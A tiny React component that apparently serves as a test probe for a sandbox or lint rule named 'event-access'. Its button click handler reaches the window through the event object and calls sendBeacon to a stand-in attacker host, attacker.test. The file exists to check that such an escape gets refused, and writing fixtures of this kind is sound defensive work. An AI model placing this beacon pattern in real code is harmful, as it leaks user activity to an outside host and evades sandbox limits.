// probe: window through an event; refused by: event-access
export default function Probe() {
  const track = (name) => (e) => e.view.navigator.sendBeacon("https://attacker.test/curried", name);
  return <button onClick={track("buy")}>Buy</button>;
}
